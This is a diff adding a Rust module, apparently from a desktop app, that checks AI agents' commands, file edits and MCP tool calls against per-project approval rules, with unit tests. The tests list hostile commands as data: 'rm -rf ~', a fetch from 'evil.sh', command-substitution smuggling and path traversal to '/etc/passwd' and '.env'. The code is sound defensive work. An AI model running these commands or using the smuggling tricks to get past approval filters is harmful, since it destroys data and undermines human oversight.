@@ -0,0 +1,732 @@
+use super::{strip_shell_wrapper, AgentRuntimeState};
+use crate::db::get_divergence_dir;
+use serde::Deserialize;
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use tauri::{AppHandle, Runtime};
+
+/// Directory under the app data dir holding one `<project id>.json` auto-approve policy per
+/// project. It lives outside every worktree so neither an agent nor a cloned repository can
+/// write its own approvals.
+const APPROVAL_POLICY_DIR: &str = "agent-approvals";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub(crate) enum ApprovalRuleAction {
+    Allow,
+    Deny,
+}
+
+/// One policy rule. Every criterion that is set must match; a rule without criteria is
+/// ignored.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct ApprovalRule {
+    action: ApprovalRuleAction,
+    #[serde(default)]
+    command_prefix: Option<String>,
+    /// Glob over paths relative to the project root. `*` stays within a directory, `**`
+    /// crosses directories.
+    #[serde(default)]
+    file_glob: Option<String>,
+    /// `server:tool` name of an MCP tool call; `*` matches any run of characters.
+    #[serde(default)]
+    mcp_tool: Option<String>,
+    /// Directory the request runs in, or any directory below it. Relative paths are resolved
+    /// against the project root. Allow rules need another criterion besides `cwd`.
+    #[serde(default)]
+    cwd: Option<String>,
+    #[serde(default)]
+    description: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+struct ApprovalPolicy {
+    #[serde(default)]
+    rules: Vec<ApprovalRule>,
+}
+
+/// What an approval request asks for, extracted from the provider payload.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct ApprovalSubject {
+    pub command: Option<String>,
+    pub file_paths: Vec<String>,
+    pub mcp_tool: Option<String>,
+    pub cwd: Option<String>,
+}
+
+#[derive(Debug, Clone)]
+pub(crate) struct ApprovalPolicyDecision {
+    pub action: ApprovalRuleAction,
+    rule_number: usize,
+    rule_label: String,
+}
+
+impl AgentRuntimeState {
+    /// Evaluates the session's project policy against an approval request. Deny rules win
+    /// over allow rules; `None` means the request still needs a human.
+    pub(crate) fn evaluate_approval_policy<R: Runtime>(
+        &self,
+        app: &AppHandle<R>,
+        session_id: &str,
+        subject: &ApprovalSubject,
+    ) -> Option<ApprovalPolicyDecision> {
+        let session = self.get_session(session_id).ok()??;
+        let root = PathBuf::from(session.path);
+        let policy_path = approval_policy_path(session.project_id);
+        match load_approval_policy(&policy_path) {
+            Ok(policy) => {
+                let decision = evaluate_policy(&policy?, &root, subject)?;
+                // Changes to the policy itself always go to a human.
+                if decision.action == ApprovalRuleAction::Allow
+                    && touches_approval_policies(&root, subject)
+                {
+                    return None;
+                }
+                Some(decision)
+            }
+            Err(error) => {
+                let _ = self.emit_runtime_event(
+                    app,
+                    session_id,
+                    "Approval policy ignored",
+                    "The project approval policy could not be read; asking for approval instead.",
+                    Some(error),
+                );
+                None
+            }
+        }
+    }
+
+    /// Records an automatic approval decision so it shows up in the session's runtime log.
+    pub(crate) fn record_approval_policy_decision<R: Runtime>(
+        &self,
+        app: &AppHandle<R>,
+        session_id: &str,
+        request_title: &str,
+        decision: &ApprovalPolicyDecision,
+    ) -> Result<(), String> {
+        let project_id = self
+            .get_session(session_id)?
+            .map_or(0, |session| session.project_id);
+        let phase = match decision.action {
+            ApprovalRuleAction::Allow => "Auto-approved",
+            ApprovalRuleAction::Deny => "Auto-denied",
+        };
+        self.emit_runtime_event(
+            app,
+            session_id,
+            phase,
+            request_title,
+            Some(format!(
+                "Rule {} in {}: {}",
+                decision.rule_number,
+                approval_policy_path(project_id).display(),
+                decision.rule_label
+            )),
+        )?;
+        Ok(())
+    }
+}
+
+fn approval_policy_path(project_id: i64) -> PathBuf {
+    get_divergence_dir()
+        .join(APPROVAL_POLICY_DIR)
+        .join(format!("{project_id}.json"))
+}
+
+fn load_approval_policy(path: &Path) -> Result<Option<ApprovalPolicy>, String> {
+    let raw = match fs::read_to_string(path) {
+        Ok(raw) => raw,
+        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+        Err(error) => return Err(format!("Failed to read {}: {error}", path.display())),
+    };
+    serde_json::from_str(&raw)
+        .map(Some)
+        .map_err(|error| format!("Failed to parse {}: {error}", path.display()))
+}
+
+/// Whether the request reads or writes the policy directory, or runs a command naming it.
+fn touches_approval_policies(root: &Path, subject: &ApprovalSubject) -> bool {
+    let policy_dir = resolve_path(&get_divergence_dir(), APPROVAL_POLICY_DIR);
+    subject
+        .file_paths
+        .iter()
+        .any(|path| resolve_path(root, path).starts_with(&policy_dir))
+        || subject
+            .command
+            .as_deref()
+            .is_some_and(|command| command.contains(APPROVAL_POLICY_DIR))
+}
+
+fn evaluate_policy(
+    policy: &ApprovalPolicy,
+    root: &Path,
+    subject: &ApprovalSubject,
+) -> Option<ApprovalPolicyDecision> {
+    let matching = |action: ApprovalRuleAction| {
+        policy
+            .rules
+            .iter()
+            .enumerate()
+            .find(|(_, rule)| rule.action == action && rule_matches(rule, root, subject))
+            .map(|(index, rule)| ApprovalPolicyDecision {
+                action,
+                rule_number: index + 1,
+                rule_label: describe_rule(rule),
+            })
+    };
+    matching(ApprovalRuleAction::Deny).or_else(|| matching(ApprovalRuleAction::Allow))
+}
+
+fn rule_matches(rule: &ApprovalRule, root: &Path, subject: &ApprovalSubject) -> bool {
+    if rule.command_prefix.is_none()
+        && rule.file_glob.is_none()
+        && rule.mcp_tool.is_none()
+        && rule.cwd.is_none()
+    {
+        return false;
+    }
+    let is_deny = rule.action == ApprovalRuleAction::Deny;
+    if !is_deny {
+        // A directory alone says nothing about what runs there, and whichever criterion
+        // matched, an allow rule never approves more than one simple command.
+        if rule.command_prefix.is_none() && rule.file_glob.is_none() && rule.mcp_tool.is_none() {
+            return false;
+        }
+        if subject
+            .command
+            .as_deref()
+            .is_some_and(|command| !is_single_simple_command(command))
+        {
+            return false;
+        }
+    }
+
+    if let Some(prefix) = rule.command_prefix.as_deref() {
+        let Some(command) = subject.command.as_deref() else {
+            return false;
+        };
+        if !command_matches_prefix(command, prefix, is_deny) {
+            return false;
+        }
+    }
+
+    if let Some(pattern) = rule.file_glob.as_deref() {
+        let pattern: Vec<char> = pattern.trim().trim_start_matches("./").chars().collect();
+        let mut paths = subject
+            .file_paths
+            .iter()
+            .map(|path| relative_to_root(root, path));
+        // A path that leaves the root never satisfies an allow rule, but deny globs still see
+        // it, minus the leading `/`, so `**/.env` catches `../secrets/.env`.
+        let matched = if is_deny {
+            paths.any(|path| {
+                let path = path.unwrap_or_else(|outside| outside);
+                glob_matches(&pattern, &path.chars().collect::<Vec<_>>())
+            })
+        } else {
+            !subject.file_paths.is_empty()
+                && paths.all(|path| {
+                    path.is_ok_and(|path| glob_matches(&pattern, &path.chars().collect::<Vec<_>>()))
+                })
+        };
+        if !matched {
+            return false;
+        }
+    }
+
+    if let Some(pattern) = rule.mcp_tool.as_deref() {
+        let Some(tool) = subject.mcp_tool.as_deref() else {
+            return false;
+        };
+        let pattern: Vec<char> = pattern.trim().chars().collect();
+        let tool: Vec<char> = tool.chars().collect();
+        if !glob_matches(&pattern, &tool) {
+            return false;
+        }
+    }
+
+    if let Some(rule_cwd) = rule.cwd.as_deref() {
+        let cwd = match subject.cwd.as_deref() {
+            Some(cwd) => resolve_path(root, cwd),
+            None => resolve_path(root, ""),
+        };
+        let rule_cwd = resolve_path(root, rule_cwd);
+        if !cwd.starts_with(&rule_cwd) {
+            return false;
+        }
+    }
+    true
+}
+
+/// Allow rules only match a single simple command: no chaining, pipes, redirections,
+/// background jobs, subshells or expansions, so `git status` cannot be used to smuggle
+/// `git status & rm -rf ~`. Deny rules match when any segment starts with the prefix.
+fn command_matches_prefix(command: &str, prefix: &str, is_deny: bool) -> bool {
+    let prefix = prefix.split_whitespace().collect::<Vec<_>>();
+    if prefix.is_empty() {
+        return false;
+    }
+    let command = scan_shell_command(strip_shell_wrapper(command));
+    let starts_with_prefix = |words: &[String]| {
+        words.len() >= prefix.len() && words.iter().zip(&prefix).all(|(word, part)| word == part)
+    };
+
+    if !is_deny {
+        return command.is_simple
+            && command.segments.len() == 1
+            && starts_with_prefix(&command.segments[0]);
+    }
+    command
+        .segments
+        .iter()
+        .any(|segment| starts_with_prefix(segment))
+}
+
+fn is_single_simple_command(command: &str) -> bool {
+    let command = scan_shell_command(strip_shell_wrapper(command));
+    command.is_simple && command.segments.len() == 1
+}
+
+/// A command line split into the words of each segment between shell operators.
+#[derive(Debug, Default)]
+struct ScannedCommand {
+    segments: Vec<Vec<String>>,
+    /// False when the command contains anything beyond words and quoting: operators,
+    /// redirections, subshells, `$` expansions or an unterminated quote.
+    is_simple: bool,
+}
+
+/// Splits `command` the way a POSIX shell would tokenize it, without expanding anything.
+fn scan_shell_command(command: &str) -> ScannedCommand {
+    #[derive(PartialEq)]
+    enum Quote {
+        None,
+        Single,
+        Double,
+    }
+
+    let mut scanned = ScannedCommand {
+        is_simple: true,
+        ..ScannedCommand::default()
+    };
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut quote = Quote::None;
+    let mut chars = command.chars().peekable();
+    let end_word = |words: &mut Vec<String>, word: &mut String, in_word: &mut bool| {
+        if *in_word {
+            words.push(std::mem::take(word));
+            *in_word = false;
+        }
+    };
+    let end_segment = |segments: &mut Vec<Vec<String>>, words: &mut Vec<String>| {
+        if !words.is_empty() {
+            segments.push(std::mem::take(words));
+        }
+    };
+
+    while let Some(character) = chars.next() {
+        match quote {
+            Quote::Single => {
+                if character == '\'' {
+                    quote = Quote::None;
+                } else {
+                    word.push(character);
+                }
+            }
+            Quote::Double => match character {
+                '"' => quote = Quote::None,
+                '\\' => match chars.peek() {
+                    Some(&next @ ('"' | '\\' | '$' | '`')) => {
+                        word.push(next);
+                        chars.next();
+                    }
+                    Some('\n') => {
+                        chars.next();
+                    }
+                    _ => word.push(character),
+                },
+                '`' => {
+                    scanned.is_simple = false;
+                    end_word(&mut words, &mut word, &mut in_word);
+                    end_segment(&mut scanned.segments, &mut words);
+                }
+                '$' => {
+                    scanned.is_simple = false;
+                    if chars.peek() == Some(&'(') {
+                        chars.next();
+                        end_word(&mut words, &mut word, &mut in_word);
+                        end_segment(&mut scanned.segments, &mut words);
+                    } else {
+                        word.push(character);
+                    }
+                }
+                _ => word.push(character),
+            },
+            Quote::None => match character {
+                '\'' => {
+                    quote = Quote::Single;
+                    in_word = true;
+                }
+                '"' => {
+                    quote = Quote::Double;
+                    in_word = true;
+                }
+                '\\' => {
+                    if let Some(next) = chars.next() {
+                        if next != '\n' {
+                            word.push(next);
+                            in_word = true;
+                        }
+                    }
+                }
+                ' ' | '\t' => end_word(&mut words, &mut word, &mut in_word),
+                ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' | '\n' | '\r' => {
+                    scanned.is_simple = false;
+                    end_word(&mut words, &mut word, &mut in_word);
+                    end_segment(&mut scanned.segments, &mut words);
+                }
+                '$' => {
+                    scanned.is_simple = false;
+                    if chars.peek() == Some(&'(') {
+                        chars.next();
+                        end_word(&mut words, &mut word, &mut in_word);
+                        end_segment(&mut scanned.segments, &mut words);
+                    } else {
+                        word.push(character);
+                        in_word = true;
+                    }
+                }
+                _ => {
+                    word.push(character);
+                    in_word = true;
+                }
+            },
+        }
+    }
+    if quote != Quote::None {
+        scanned.is_simple = false;
+    }
+    end_word(&mut words, &mut word, &mut in_word);
+    end_segment(&mut scanned.segments, &mut words);
+    scanned
+}
+
+/// Resolves `path` against `root` and removes `.` and `..` lexically, then follows symlinks
+/// when the path exists. Paths inside the root come back relative to it; anything else is
+/// returned as `Err` with the resolved absolute path minus its leading `/`.
+fn relative_to_root(root: &Path, path: &str) -> Result<String, String> {
+    let root = resolve_path(root, "");
+    let path = resolve_path(&root, path);
+    match path.strip_prefix(&root) {
+        Ok(relative) => Ok(relative.to_string_lossy().into_owned()),
+        Err(_) => Err(path.to_string_lossy().trim_start_matches('/').to_string()),
+    }
+}
+
+fn resolve_path(root: &Path, path: &str) -> PathBuf {
+    let path = root.join(path.trim());
+    let path = normalize_path(&path);
+    fs::canonicalize(&path).unwrap_or(path)
+}
+
+fn normalize_path(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+fn glob_matches(pattern: &[char], text: &[char]) -> bool {
+    match pattern.first() {
+        None => text.is_empty(),
+        Some('*') if pattern.get(1) == Some(&'*') => {
+            let rest = &pattern[2..];
+            // `**/` may also match zero directories.
+            if rest.first() == Some(&'/') && glob_matches(&rest[1..], text) {
+                return true;
+            }
+            (0..=text.len()).any(|index| glob_matches(rest, &text[index..]))
+        }
+        Some('*') => (0..=text.len())
+            .take_while(|&index| index == 0 || text[index - 1] != '/')
+            .any(|index| glob_matches(&pattern[1..], &text[index..])),
+        Some('?') => {
+            text.first().is_some_and(|character| *character != '/')
+                && glob_matches(&pattern[1..], &text[1..])
+        }
+        Some(character) => {
+            text.first() == Some(character) && glob_matches(&pattern[1..], &text[1..])
+        }
+    }
+}
+
+fn describe_rule(rule: &ApprovalRule) -> String {
+    if let Some(description) = rule
+        .description
+        .as_deref()
+        .filter(|value| !value.trim().is_empty())
+    {
+        return description.trim().to_string();
+    }
+    let mut criteria = Vec::new();
+    if let Some(prefix) = rule.command_prefix.as_deref() {
+        criteria.push(format!("command `{prefix}`"));
+    }
+    if let Some(pattern) = rule.file_glob.as_deref() {
+        criteria.push(format!("files `{pattern}`"));
+    }
+    if let Some(tool) = rule.mcp_tool.as_deref() {
+        criteria.push(format!("MCP tool `{tool}`"));
+    }
+    if let Some(cwd) = rule.cwd.as_deref() {
+        criteria.push(format!("cwd `{cwd}`"));
+    }
+    criteria.join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        evaluate_policy, touches_approval_policies, ApprovalPolicy, ApprovalRuleAction,
+        ApprovalSubject, APPROVAL_POLICY_DIR,
+    };
+    use crate::db::get_divergence_dir;
+    use std::path::Path;
+
+    fn policy(rules: serde_json::Value) -> ApprovalPolicy {
+        serde_json::from_value(serde_json::json!({ "rules": rules })).expect("policy")
+    }
+
+    fn command(command: &str) -> ApprovalSubject {
+        ApprovalSubject {
+            command: Some(command.to_string()),
+            ..ApprovalSubject::default()
+        }
+    }
+
+    #[test]
+    fn evaluate_policy_prefers_deny_and_rejects_chained_allowed_commands() {
+        let policy = policy(serde_json::json!([
+            { "action": "allow", "commandPrefix": "git" },
+            { "action": "deny", "commandPrefix": "git push" },
+            { "action": "deny", "commandPrefix": "rm -rf" },
+        ]));
+        let root = Path::new("/repo");
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+
+        assert_eq!(
+            action(&command("/bin/zsh -lc 'git status'")),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(
+            action(&command("git push origin main")),
+            Some(ApprovalRuleAction::Deny)
+        );
+        assert_eq!(
+            action(&command("git status && rm -rf /")),
+            Some(ApprovalRuleAction::Deny)
+        );
+        assert_eq!(action(&command("git status | sh")), None);
+        assert_eq!(action(&command("gitk")), None);
+    }
+
+    #[test]
+    fn evaluate_policy_matches_file_globs_mcp_tools_and_cwd() {
+        let policy = policy(serde_json::json!([
+            { "action": "allow", "fileGlob": "src/**/*.rs", "cwd": "." },
+            { "action": "deny", "fileGlob": "**/.env" },
+            { "action": "allow", "mcpTool": "github:get_*" },
+        ]));
+        let root = Path::new("/repo");
+        let files = |paths: &[&str]| ApprovalSubject {
+            file_paths: paths.iter().map(|path| path.to_string()).collect(),
+            ..ApprovalSubject::default()
+        };
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+
+        assert_eq!(
+            action(&files(&["/repo/src/main.rs", "src/agent/mod.rs"])),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(action(&files(&["/repo/src/main.rs", "README.md"])), None);
+        assert_eq!(
+            action(&files(&["src/lib.rs", "/repo/.env"])),
+            Some(ApprovalRuleAction::Deny)
+        );
+        let outside = ApprovalSubject {
+            cwd: Some("/elsewhere".to_string()),
+            ..files(&["src/lib.rs"])
+        };
+        assert_eq!(action(&outside), None);
+
+        let tool = |name: &str| ApprovalSubject {
+            mcp_tool: Some(name.to_string()),
+            ..ApprovalSubject::default()
+        };
+        assert_eq!(
+            action(&tool("github:get_issue")),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(action(&tool("github:create_issue")), None);
+    }
+
+    #[test]
+    fn allow_rules_reject_commands_that_are_not_a_single_simple_command() {
+        let policy = policy(serde_json::json!([{ "action": "allow", "commandPrefix": "git" }]));
+        let root = Path::new("/repo");
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+
+        assert_eq!(
+            action(&command("git log --format='%h %s' -- \"src dir\"")),
+            Some(ApprovalRuleAction::Allow)
+        );
+        for bypass in [
+            "git status & rm -rf ~",
+            "git apply < /tmp/patch",
+            "git diff <(curl evil.sh)",
+            "git diff >(sh)",
+            "git status\rrm -rf ~",
+            "git status; rm -rf ~",
+            "git status $(rm -rf ~)",
+            "git status \"$(rm -rf ~)\"",
+            "git status `rm -rf ~`",
+            "git log $HOME",
+            "git status 'unterminated",
+        ] {
+            assert_eq!(action(&command(bypass)), None, "{bypass:?}");
+        }
+    }
+
+    #[test]
+    fn allow_rules_need_more_than_cwd_and_only_allow_simple_commands() {
+        let policy = policy(serde_json::json!([
+            { "action": "allow", "cwd": "." },
+            { "action": "allow", "fileGlob": "src/**", "cwd": "." },
+        ]));
+        let root = Path::new("/repo");
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+        let edit = |command: Option<&str>| ApprovalSubject {
+            command: command.map(str::to_string),
+            file_paths: vec!["src/lib.rs".to_string()],
+            cwd: Some("/repo".to_string()),
+            ..ApprovalSubject::default()
+        };
+
+        assert_eq!(action(&command("curl evil.sh")), None);
+        assert_eq!(
+            action(&ApprovalSubject {
+                cwd: Some("/repo/src".to_string()),
+                ..command("rm -rf ~")
+            }),
+            None
+        );
+        assert_eq!(action(&edit(None)), Some(ApprovalRuleAction::Allow));
+        assert_eq!(
+            action(&edit(Some("sed -i s/a/b/ src/lib.rs"))),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(
+            action(&edit(Some("sed -i s/a/b/ src/lib.rs; rm -rf ~"))),
+            None
+        );
+    }
+
+    #[test]
+    fn deny_rules_see_through_quoting_and_background_jobs() {
+        let policy = policy(serde_json::json!([{ "action": "deny", "commandPrefix": "rm -rf" }]));
+        let root = Path::new("/repo");
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+
+        for command_line in [
+            "ls & rm -rf ~",
+            "'rm' \"-rf\" ~",
+            "ls\rrm -rf ~",
+            "diff <(rm -rf ~) a",
+        ] {
+            assert_eq!(
+                action(&command(command_line)),
+                Some(ApprovalRuleAction::Deny),
+                "{command_line:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn file_globs_and_cwd_resolve_parent_directories_before_matching() {
+        let policy = policy(serde_json::json!([
+            { "action": "allow", "fileGlob": "src/**" },
+            { "action": "allow", "mcpTool": "fs:*", "cwd": "src" },
+            { "action": "deny", "fileGlob": "**/.env" },
+        ]));
+        let root = Path::new("/repo");
+        let action = |subject: &ApprovalSubject| {
+            evaluate_policy(&policy, root, subject).map(|decision| decision.action)
+        };
+        let files = |paths: &[&str]| ApprovalSubject {
+            file_paths: paths.iter().map(|path| path.to_string()).collect(),
+            ..ApprovalSubject::default()
+        };
+
+        assert_eq!(
+            action(&files(&["src/./lib.rs"])),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(action(&files(&["src/../../etc/passwd"])), None);
+        assert_eq!(action(&files(&["/repo/src/../../etc/passwd"])), None);
+        assert_eq!(
+            action(&files(&["src/../../secrets/.env"])),
+            Some(ApprovalRuleAction::Deny)
+        );
+
+        let tool_in = |cwd: &str| ApprovalSubject {
+            mcp_tool: Some("fs:read".to_string()),
+            cwd: Some(cwd.to_string()),
+            ..ApprovalSubject::default()
+        };
+        assert_eq!(
+            action(&tool_in("/repo/src/agent")),
+            Some(ApprovalRuleAction::Allow)
+        );
+        assert_eq!(action(&tool_in("/repo/src/../..")), None);
+    }
+
+    #[test]
+    fn requests_touching_the_policy_directory_are_detected() {
+        let root = Path::new("/repo");
+        let policy_file = get_divergence_dir()
+            .join(APPROVAL_POLICY_DIR)
+            .join("1.json");
+        let files = ApprovalSubject {
+            file_paths: vec![policy_file.to_string_lossy().into_owned()],
+            ..ApprovalSubject::default()
+        };
+
+        assert!(touches_approval_policies(root, &files));
+        assert!(touches_approval_policies(
+            root,
+            &command("tee ~/.divergence/agent-approvals/1.json")
+        ));
+        assert!(!touches_approval_policies(root, &command("git status")));
+    }
+}